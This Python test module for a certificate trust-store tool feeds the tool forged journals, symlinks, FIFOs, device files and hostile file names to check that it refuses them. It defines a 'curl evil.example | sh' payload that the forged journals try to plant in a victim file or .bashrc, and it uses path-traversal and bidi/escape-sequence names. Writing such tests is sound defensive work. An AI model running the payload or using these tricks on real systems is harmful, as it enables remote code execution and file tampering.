"""Folders and stores that somebody else has prepared: their state files, links, devices and names."""

import hashlib
import json
import os
import socket
import subprocess

import der
from cases import add, case
from der import ca, certificate_pem, key
from sandbox import Failed

LOOKS = {
    "list": ["trust", "list", "STORE"],
    "audit": ["trust", "audit", "STORE"],
    "diff": ["trust", "diff", "STORE", "other.pem"],
    "export": ["trust", "export", "STORE", "-o", "../exported.pem"],
    "add-dry-run": ["trust", "add", "STORE", "other.pem", "--dry-run"],
    "check": ["check", "STORE"],
    "inspect": ["inspect", "STORE"],
    "expiry": ["expiry", "STORE"],
}
CHANGES = {
    "add": ["trust", "add", "STORE", "other.pem", "--accept", "already-in-store", "--reason", "test"],
    "undo": ["trust", "undo", "STORE"],
    "remove": ["trust", "remove", "STORE", "root.pem"],
}


def state(sum_of):
    return {"file": hashlib.sha256(sum_of).hexdigest()}


def record(files, sequence=1):
    return {
        "schema": "certkit.trust-log/1", "sequence": sequence, "time": "2026-06-01T12:00:00Z", "user": "mallory", "called_by": None,
        "action": "add", "reason": None, "accepted": [], "certificates": [], "revocation_lists": [], "undoes": None, "files": files,
    }


def certificates(box):
    box.file("root.pem", certificate_pem(ca("Plant Root", key("root"))))
    box.file("other.pem", certificate_pem(ca("Other Root", key("other"))))


def opcua_store(box):
    """An OPC UA folder, as a supplier might hand it over."""
    certificates(box)
    for name in ["trusted/certs", "trusted/crl", "issuer/certs", "issuer/crl", "own/certs", "rejected/certs"]:
        box.path(f"pki/{name}/x").parent.mkdir(exist_ok=True)
    box.file("pki/trusted/certs/root.der", ca("Plant Root", key("root")))
    box.path("pki/.certkit").mkdir()
    return "opcua:pki", box.path("pki/.certkit")


def bundle(box):
    """A PEM bundle with state beside it."""
    certificates(box)
    box.file("bundle.pem", certificate_pem(ca("Plant Root", key("root"))))
    box.path("bundle.pem.certkit").mkdir()
    return "pem:bundle.pem", box.path("bundle.pem.certkit")


PAYLOAD = b"curl evil.example | sh\n"


def write_over(box, where):
    (where / "new-0").write_bytes(PAYLOAD)
    return [{"path": str(box.victim), "before": "absent", "after": state(PAYLOAD)}]


def delete(box, where):
    return [{"path": str(box.victim), "before": state(box.victim.read_bytes()), "after": "absent"}]


def climb(box, where):
    (where / "new-0").write_bytes(PAYLOAD)
    path = os.path.relpath(box.victim, where.parent)
    return [{"path": path, "before": "absent", "after": state(PAYLOAD)}]


def link(box, where):
    os.symlink(box.victim, where / "new-0")
    return [{"path": "trusted/certs/leak.der", "before": "absent", "after": {"link": str(box.victim)}}]


def through_link(box, where):
    (where / "new-0").write_bytes(PAYLOAD)
    os.symlink(box.victim.parent, where.parent / "sub")
    return [{"path": "sub/.bashrc", "before": "absent", "after": state(PAYLOAD)}]


def windows_device(box, where):
    (where / "new-0").write_bytes(PAYLOAD)
    return [{"path": name, "before": "absent", "after": state(PAYLOAD)} for name in ["C:\\Windows\\x", "trusted\\..\\..\\x", "NUL"]]


def no_certificate(box, where):
    (where / "new-0").write_bytes(PAYLOAD)
    return [{"path": "trusted/certs/x.der", "before": "absent", "after": state(PAYLOAD)}]


def not_named(box, where):
    (where / "new-0").write_bytes(ca("Evil Root", key("evil")))
    return [{"path": "trusted/certs/evil.der", "before": "absent", "after": state((where / "new-0").read_bytes())}]


TRICKS = [write_over, delete, climb, link, through_link, windows_device, no_certificate, not_named]


def replay(make, trick, words, is_look):
    def run(box):
        address, where = make(box)
        files = trick(box, where)
        (where / "journal.json").write_text(json.dumps({"record": record(files)}))
        (where / "lock").touch()
        words_here = [address if word == "STORE" else word for word in words]
        if is_look:
            box.unchanged(*words_here)
        else:
            box.certkit(*words_here).ends(3)
        box.hold_outside()
        if not (where / "journal.json").exists():
            raise Failed("the journal of a stranger was taken for our own and finished")

    return run


for trick in TRICKS:
    for verb, words in LOOKS.items():
        if trick is write_over or verb == "list":
            add("state", f"journal-{trick.__name__}-{verb}", "A look never finishes a change that lies beside a store.",
                replay(opcua_store, trick, words, True))
    for verb, words in CHANGES.items():
        if trick is not windows_device:
            add("state", f"journal-{trick.__name__}-{verb}", "A change refuses a journal that names files outside the store, and one that does not name what it puts in.",
                replay(opcua_store, trick, words, False))
for trick in [write_over, delete, climb]:
    add("state", f"journal-of-bundle-{trick.__name__}", "What lies beside a PEM bundle is not replayed by a look.",
        replay(bundle, trick, LOOKS["list"], True))
    add("state", f"journal-of-bundle-{trick.__name__}-add", "What lies beside a PEM bundle reaches no other file.",
        replay(bundle, trick, CHANGES["add"], False))


@case("state")
def interrupted_change_is_told(box):
    """A look says that a change was interrupted."""
    address, where = opcua_store(box)
    (where / "new-0").write_bytes(ca("New Root", key("new")))
    files = [{"path": "trusted/certs/new.der", "before": "absent", "after": state((where / "new-0").read_bytes())}]
    (where / "journal.json").write_text(json.dumps({"record": record(files)}))
    box.unchanged("trust", "list", address).says("interrupted", "unfinished", "not finished", "journal")


def linked_state(name):
    def run(box):
        address, where = opcua_store(box)
        os.symlink(box.victim, where / name)
        box.certkit("trust", "add", address, "other.pem", "--list", "trusted", "--accept", "anchor-unknown", "--reason", "test")

    return run


for name in ["log.jsonl", "lock", "journal.json", "journal.tmp", "new-0", "backup"]:
    add("state", f"link-{name}", "State files are opened without following links.", linked_state(name))


@case("state")
def linked_state_folder(box):
    """A state folder that is a link to elsewhere is refused."""
    address, where = opcua_store(box)
    where.rmdir()
    os.symlink(box.outside / "etc", where)
    box.certkit("trust", "add", address, "other.pem")


def undo_of(trick):
    def run(box):
        address, where = opcua_store(box)
        copies = where / "backup/000001"
        copies.mkdir(parents=True)
        (copies / "0").write_bytes(PAYLOAD)
        path = str(box.victim) if trick == "absolute" else os.path.relpath(box.victim, where.parent)
        files = [{"path": path, "before": state(PAYLOAD), "after": state(box.victim.read_bytes())}]
        (where / "log.jsonl").write_text(json.dumps(record(files)) + "\n")
        box.certkit("trust", "undo", address).ends(3)

    return run


for trick in ["absolute", "climbing"]:
    add("state", f"undo-{trick}", "Undo reaches no file outside the store.", undo_of(trick))


@case("state")
def undo_of_a_forged_record(box):
    """Undo says which files it changes, and refuses a record that does not name the certificates in them."""
    address, where = opcua_store(box)
    evil, root = ca("Evil Root", key("evil")), box.path("pki/trusted/certs/root.der")
    copies = where / "backup/000001"
    copies.mkdir(parents=True)
    (copies / "0").write_bytes(evil)
    for folder in [where, where / "backup", copies]:
        folder.chmod(0o700)
    files = [{"path": "trusted/certs/root.der", "before": state(evil), "after": state(root.read_bytes())}]
    (where / "log.jsonl").write_text(json.dumps(record(files)) + "\n")
    held = root.read_bytes()
    for action in ["add", "renew"]:
        (where / "log.jsonl").write_text(json.dumps({**record(files), "action": action}) + "\n")
        for words in [["trust", "undo", address, "--dry-run"], ["trust", "undo", address]]:
            box.certkit(*words).ends(3).says("does not name")
            if root.read_bytes() != held:
                raise Failed("the trusted root was replaced")


@case("state")
def reason_with_a_password(box):
    """The reason of a change is kept without the password of an address in it."""
    address, where = opcua_store(box)
    words = ["--list", "trusted", "--accept", "anchor-unknown", "--reason", "ticket https://u:S3cr3tPw@h/1"]
    box.certkit("trust", "add", address, "other.pem", *words).ends(0, 1)
    if "S3cr3tPw" in (where / "log.jsonl").read_text():
        raise Failed("the record holds a password")


@case("state")
def journal_of_garbage(box):
    """A journal that cannot be decoded is one clear error, and nothing is lost."""
    address, where = opcua_store(box)
    (where / "journal.json").write_bytes(b"\xff\xfe{" * 1000)
    box.certkit("trust", "add", address, "other.pem").ends(3).says("journal")


@case("state")
def journal_of_a_gigabyte(box):
    """A journal and a record of a gigabyte are not read into memory."""
    address, where = opcua_store(box)
    for name in ["journal.json", "log.jsonl"]:
        with open(where / name, "wb") as file:
            file.truncate(1 << 30)
    box.certkit("trust", "list", address)
    box.certkit("trust", "add", address, "other.pem").ends(3)


@case("state")
def state_files_are_private(box):
    """What certkit keeps beside a store is readable by its owner alone."""
    certificates(box)
    box.file("bundle.pem", certificate_pem(ca("Plant Root", key("root"))))
    box.certkit("trust", "add", "pem:bundle.pem", "other.pem").ends(0, 1)
    for path in box.path("bundle.pem.certkit").rglob("*"):
        if path.is_file() and path.stat().st_mode & 0o077:
            raise Failed(f"{path.name} is readable by others: {oct(path.stat().st_mode)}")


def special(kind, words):
    def run(box):
        certificates(box)
        for folder in ["store", "pki/trusted/certs", "pki/trusted/crl", "pki/issuer/certs"]:
            path = box.path(f"{folder}/00-odd.crl")
            if kind == "fifo":
                os.mkfifo(path)
            elif kind == "socket":
                listener = socket.socket(socket.AF_UNIX)
                here = os.open(path.parent, os.O_RDONLY)
                listener.bind(f"/proc/self/fd/{here}/{path.name}")
                os.close(here)
                box.on_close(listener.close)
            else:
                os.symlink(kind, path)
            box.file(f"{folder}/root.pem", certificate_pem(ca("Plant Root", key("root"))))
        box.certkit(*words)

    return run


FOLDER_READERS = {
    "check": ["check", "store"],
    "inspect": ["inspect", "store"],
    "expiry": ["expiry", "store"],
    "verify-trust": ["verify", "root.pem", "--trust", "store"],
    "verify-crl": ["verify", "root.pem", "--trust", "root.pem", "--crl", "store"],
    "hashed": ["trust", "list", "hashed:store"],
    "folder": ["trust", "audit", "folder:store"],
    "opcua": ["trust", "list", "opcua:pki"],
    "pki": ["verify", "root.pem", "--profile", "opcua", "--pki", "pki"],
}
for kind, label in [("fifo", "fifo"), ("socket", "socket"), ("/dev/zero", "dev-zero"), ("/dev/tty", "dev-tty"), ("/proc/kmsg", "proc-kmsg"), ("/dev/stdin", "dev-stdin")]:
    for verb, words in FOLDER_READERS.items():
        if kind in ("fifo", "/dev/zero") or verb == "check":
            add("devices", f"{label}-{verb}", "A FIFO, socket or device in a folder holds nothing up.", special(kind, words))


def named(kind, words):
    def run(box):
        certificates(box)
        if kind == "fifo":
            os.mkfifo(box.path("odd"))
            odd = "odd"
        else:
            odd = kind
        box.certkit(*[odd if word == "ODD" else word for word in words]).refuses()

    return run


for kind, label in [("fifo", "fifo"), ("/dev/zero", "dev-zero")]:
    for verb, words in {
        "check": ["check", "ODD"], "trust": ["verify", "root.pem", "--trust", "ODD"], "crl": ["verify", "root.pem", "--trust", "root.pem", "--crl", "ODD"],
        "store": ["trust", "list", "ODD"], "password-file": ["trust", "list", "root.pem", "--password-file", "ODD"],
        "batch": ["verify", "--trust", "root.pem", "--batch", "ODD"], "config": ["expiry", "--config", "ODD"],
        "state": ["expiry", "root.pem", "--state", "ODD"], "convert": ["convert", "ODD", "-o", "out.pem"],
        "issuer": ["revoke", "--issuer", "ODD", "--issuer-key", "ODD", "--crl", "x.crl"], "sign": ["sign", "ODD", "--issuer", "root.pem", "--issuer-key", "root.pem"],
    }.items():
        if verb != "password-file" or kind == "/dev/zero":
            add("devices", f"{label}-as-{verb}", "A FIFO or device that is named is refused or bounded.", named(kind, words))


@case("devices")
def fifo_in_a_list_folder_counts_as_unread(box):
    """What stands in a folder for revocation lists and is no file makes revocation undetermined."""
    box.file("root.pem", certificate_pem(ca("Plant Root", key("root"))))
    box.file("leaf.pem", certificate_pem(der.leaf("plc", key("leaf"), "Plant Root", key("root"))))
    box.file("crl/good.crl", der.crl("Plant Root", key("root")))
    words = ["verify", "leaf.pem", "--trust", "root.pem", "--host", "plant.test", "--crl", "crl"]
    box.certkit(*words).ends(0, 1)
    os.mkfifo(box.path("crl/newer.crl"))
    box.certkit(*words).refuses()


@case("devices")
def process_substitution_is_read(box):
    """What a shell hands over as `<(command)` or /dev/stdin is read, and bounded."""
    certificates(box)
    run = lambda script: subprocess.run(["bash", "-c", script.replace("certkit", f'"{box.certkit_path}"')], cwd=box.inside, capture_output=True, timeout=90)
    for script in ["certkit inspect <(cat root.pem)", "cat root.pem | certkit inspect /dev/stdin"]:
        done = run(script)
        if done.returncode not in (0, 1, 2) or b"Plant Root" not in done.stdout:
            raise Failed(f"{script}: {done.returncode}, {done.stderr[:300]}")
    for script in ["certkit inspect /dev/stdin < /dev/zero", "certkit inspect <(cat /dev/zero)"]:
        done = run(script)
        if done.returncode != 3 or b"larger than" not in done.stderr:
            raise Failed(f"{script}: {done.returncode}, {done.stderr[:300]}")


def concurrent_revokes(folder):
    def run(box):
        box.certkit("generate", "ca", "--name", "Plant CA", "--key-type", "ec:p256", "--no-password", "-o", "ca").ends(0, 1)
        found = {path.name: path for path in box.path("ca").rglob("*") if path.is_file()}
        issuers = [path for path in found.values() if path.suffix in (".pem", ".der", ".crt") and b"CERTIFICATE" in path.read_bytes()]
        keys = [path for path in found.values() if b"PRIVATE KEY" in path.read_bytes()]
        where = ["--issuer", "ca"] if folder else ["--issuer", str(issuers[0]), "--issuer-key", str(keys[0]), "--crl", "plant.crl"]
        made = box.certkit("generate", "https", "--name", "plc0.plant.test", "--dns", "plc0.plant.test", "--key-type", "ec:p256", *where[:2],
                           *(where[2:4] if not folder else []), "--cert-out", "plc0.pem", "--key-out", "plc0.key")
        made.ends(0, 1)
        from_ca = [made]
        for number in range(1, 8):
            box.certkit("generate", "https", "--name", f"plc{number}.plant.test", "--dns", f"plc{number}.plant.test", "--key-type", "ec:p256",
                        *where[:2], *(where[2:4] if not folder else []), "--cert-out", f"plc{number}.pem", "--key-out", f"plc{number}.key").ends(0, 1)
        words = [["revoke", f"plc{number}.pem", *where] for number in range(8)]
        started = [(box.start(*each), each) for each in words]
        for process, each in started:
            box.finish(process, each, 30).ends(0, 1)
        lists = [path for path in box.inside.rglob("*") if path.suffix == ".crl" and path.is_file()]
        text = der.openssl("crl", "-in", str(max(lists, key=lambda path: path.stat().st_mtime_ns)), "-noout", "-text").decode()
        revoked = text.count("Serial Number:")
        if revoked != 8:
            raise Failed(f"{revoked} of 8 revocations are on the list")

    return run


add("writing", "revoke-eight-at-once-file", "No revocation is lost where eight are made at once on --crl.", concurrent_revokes(False))
add("writing", "revoke-eight-at-once-folder", "No revocation is lost where eight are made at once in a CA's folder.", concurrent_revokes(True))


@case("writing")
def adds_at_once(box):
    """No certificate is lost where six are added to one bundle at once."""
    certificates(box)
    box.file("bundle.pem", certificate_pem(ca("Plant Root", key("root"))))
    words = []
    for number in range(6):
        box.file(f"new{number}.pem", certificate_pem(ca(f"New {number}", key("new"))))
        words.append(["trust", "add", "pem:bundle.pem", f"new{number}.pem"])
    for process, each in [(box.start(*each), each) for each in words]:
        box.finish(process, each, 30).ends(0, 1)
    count = box.path("bundle.pem").read_text().count("BEGIN CERTIFICATE")
    if count != 7:
        raise Failed(f"{count} of 7 certificates are in the bundle")


def alias(name):
    def run(box):
        certificates(box)
        box.path("store/x").parent.mkdir(exist_ok=True)
        box.file("store/root.pem", certificate_pem(ca("Plant Root", key("root"))))
        box.certkit("trust", "add", "folder:store", "other.pem", "--alias", name)
        for path in box.path("store").iterdir():
            stem = path.name.split(".")[0].upper()
            if path.name != ".certkit" and (stem in ("CON", "NUL", "AUX", "COM1") or any(it in path.name for it in "\\/:\u202e\x1b\n\x07")):
                raise Failed(f"made a file named {path.name!r}")
        for path in box.inside.iterdir():
            if "evil" in path.name:
                raise Failed("left the store's folder")

    return run


for label, name in {
    "climbing": "../evil", "absolute": "/tmp/evil", "backslash": "..\\evil", "device": "NUL", "device-with-extension": "con.pem",
    "stream": "ca:stream", "bidi": "ca\u202efdp", "escape": "ca\x1b[31m", "newline": "ca\nb", "dots": "..", "com1": "COM1",
}.items():
    add("names-of-files", f"alias-{label}", "An alias becomes a file name of the store's folder, or is refused.", alias(name))


def subject_name(name):
    def run(box):
        box.file("evil.pem", certificate_pem(ca(name, key("root"))))
        box.certkit("trust", "add", "opcua:pki", "evil.pem", "--create", "--list", "trusted")
        for path in box.path("pki").rglob("*"):
            if any(it in path.name for it in "\\:\u202e\x1b\n\x07"):
                raise Failed(f"made a file named {path.name!r}")

    return run


for label, name in {"climbing": "../../evil", "bidi": "ca\u202efdp", "escape": "\x1b]0;x\x07", "separator": "a/b\\c:d", "long": "x" * 300}.items():
    add("names-of-files", f"subject-{label}", "A subject becomes a harmless file name.", subject_name(name))


@case("names-of-files")
def requests_with_odd_names(box):
    """Certificates that are named after requests get harmless names."""
    box.certkit("generate", "ca", "--name", "Plant CA", "--key-type", "ec:p256", "--no-password", "-o", "ca").ends(0, 1)
    box.certkit("request", "client", "--name", "x", "--key-type", "ec:p256", "--key-out", "x.key", "-o", "x.csr").ends(0, 1)
    request = box.path("x.csr").read_bytes()
    odd = ["nul.csr", "com1.csr", "x\u202egpj.csr", "\x1b]0;x\x07.csr", "a\\..\\b.csr", "z:stream.csr", "-rf.csr"]
    for name in odd:
        box.file(f"in/{name}", request)
    box.certkit("sign", "in", "--issuer", "ca", "-o", "issued").ends(0, 1)
    made = [path.name for path in box.path("issued").iterdir()]
    if len(made) != len(odd):
        raise Failed(f"{len(made)} of {len(odd)} certificates: {made}")
    for name in made:
        if name.split(".")[0].lower() in ("nul", "com1") or any(it in name for it in "\\:\u202e\x1b\x07"):
            raise Failed(f"made a file named {name!r}")


def odd_file_of_a_ca(name, kind, words):
    def run(box):
        box.certkit("generate", "ca", "--name", "Plant CA", "--key-type", "ec:p256", "--no-password", "-o", "ca").ends(0, 1)
        box.certkit("generate", "client", "--name", "x", "--key-type", "ec:p256", "--issuer", "ca", "--cert-out", "x.pem", "--key-out", "x.key").ends(0, 1)
        box.certkit("request", "client", "--name", "x", "--key", "x.key", "-o", "x.csr").ends(0, 1)
        path = box.path(f"ca/{name}")
        path.unlink()
        if kind == "fifo":
            os.mkfifo(path)
        else:
            os.symlink(kind, path)
        box.certkit(*words).ends(3)

    return run


for name, words in {"index.pem": ["sign", "x.csr", "--issuer", "ca", "--cert-out", "y.pem"], "ca.crl": ["revoke", "x.pem", "--issuer", "ca"]}.items():
    for kind, label in [("fifo", "fifo"), ("/dev/zero", "dev-zero"), ("nowhere", "broken-link")]:
        add("devices", f"{label}-as-{name}", "The files of a CA are regular ones: anything else neither holds it up nor counts as empty.",
            odd_file_of_a_ca(name, kind, words))


def planted(kind, words):
    def run(box):
        certificates(box)
        if os.geteuid() != 0:
            return
        box.path("tmp").mkdir()
        path = box.path("tmp/out")
        if kind == "link":
            os.symlink(box.victim, path)
        elif kind == "fifo":
            os.mkfifo(path)
        else:
            path.write_text("theirs\n")
        os.chown(path, 4321, 4321, follow_symlinks=False)
        os.chmod(box.path("tmp"), 0o1777)
        box.certkit(*words).ends(3)

    return run


for kind in ["link", "file", "fifo"]:
    for verb, words in {
        "convert": ["convert", "root.pem", "--as", "pem", "-o", "tmp/out", "--force"],
        "expiry": ["expiry", "root.pem", "--format", "csv", "-o", "tmp/out"],
        "state": ["expiry", "root.pem", "--state", "tmp/out"],
        "key": ["generate", "client", "--name", "x", "--key-type", "ec:p256", "--cert-out", "x.pem", "--key-out", "tmp/out", "--force"],
    }.items():
        add("writing", f"planted-{kind}-{verb}", "What somebody else has put into a folder like /tmp is neither followed nor replaced.",
            planted(kind, words))


def output_link(words, name):
    def run(box):
        certificates(box)
        os.symlink(box.victim, box.path(name))
        box.certkit(*words).ends(3)

    return run


add("writing", "output-through-a-link", "An output that is a link to a file of somebody else is kept without --force.",
    output_link(["convert", "root.pem", "-o", "out.pem"], "out.pem"))
add("writing", "key-through-a-link", "A new key is not written through a link that waits at its name.",
    output_link(["generate", "ca", "--name", "X", "--key-type", "ec:p256", "--no-password", "--cert-out", "c.pem", "--key-out", "k.pem"], "k.pem"))


@case("writing")
def forced_output_keeps_link_and_mode(box):
    """--force replaces what a link inside the folder leads to, and keeps link and mode."""
    certificates(box)
    box.file("real/out.pem", "old\n")
    os.chmod(box.path("real/out.pem"), 0o640)
    os.symlink("real/out.pem", box.path("out.pem"))
    box.certkit("convert", "root.pem", "-o", "out.pem", "--force").ends(0)
    if not box.path("out.pem").is_symlink() or b"CERTIFICATE" not in box.path("real/out.pem").read_bytes():
        raise Failed("the link was replaced instead of what it leads to")
    if box.path("real/out.pem").stat().st_mode & 0o777 != 0o640:
        raise Failed("the mode was not kept")


@case("writing")
def full_disk_leaves_the_old_file(box):
    """Where a write fails, the old file is there, and nothing beside it."""
    certificates(box)
    many = certificate_pem(*[ca("Plant Root", key("root"))] * 8)
    box.file("big.pem", many)
    box.file("out.pem", "old\n")
    script = f'ulimit -f 1; exec "{box.certkit_path}" convert big.pem -o out.pem --force'
    subprocess.run(["bash", "-c", script], cwd=box.inside, capture_output=True, timeout=20)
    if box.path("out.pem").read_text() != "old\n" and b"CERTIFICATE" not in box.path("out.pem").read_bytes():
        raise Failed("the file is broken")
    if len(box.path("out.pem").read_bytes()) not in (4, len(many)) and box.path("out.pem").read_text() != "old\n" and not box.path("out.pem").read_text().rstrip().endswith("-----END CERTIFICATE-----"):
        raise Failed("the file is cut")
    left = [path.name for path in box.inside.iterdir() if path.name not in ("big.pem", "out.pem", "root.pem", "other.pem")]
    if left:
        raise Failed(f"left behind: {left}")
